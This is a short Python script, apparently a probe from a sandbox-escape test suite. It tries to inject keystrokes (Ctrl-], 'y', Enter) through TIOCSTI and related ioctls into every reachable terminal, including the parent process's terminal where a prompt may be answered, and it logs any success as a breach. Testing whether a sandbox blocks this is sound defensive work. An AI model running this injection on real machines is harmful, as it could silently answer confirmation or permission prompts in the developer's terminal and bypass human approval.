"""Type for the developer: push keys into every terminal that there is, and into the one that an answer is typed in."""

# aims: marks
# control: none (it would type into the developer's terminals)
import fcntl
import glob
import os

from attack import attempt, breach, tried

TIOCSTI, TIOCLINUX, TIOCSETD, TIOCCONS = 0x5412, 0x541C, 0x5423, 0x541D
tried()
for path in (
    "/dev/tty",
    "/dev/console",
    *glob.glob("/dev/pts/*"),
    *glob.glob("/dev/tty*"),
    *(f"/proc/{pid}/fd/0" for pid in (1, os.getppid())),
):
    file = attempt(os.open, path, os.O_RDWR | os.O_NOCTTY)
    if file is None:
        continue
    for key in b"\x1dy\n":
        for request in (TIOCSTI, 0x1_0000_0000 | TIOCSTI, TIOCLINUX, TIOCSETD, TIOCCONS):
            try:
                fcntl.ioctl(file, request & 0xFFFFFFFF, bytes([key]))
                if request & 0xFFFFFFFF == TIOCSTI:
                    breach(f"a key was pushed into {path}")
            except OSError as error:
                print(path, hex(request), error)
    os.close(file)
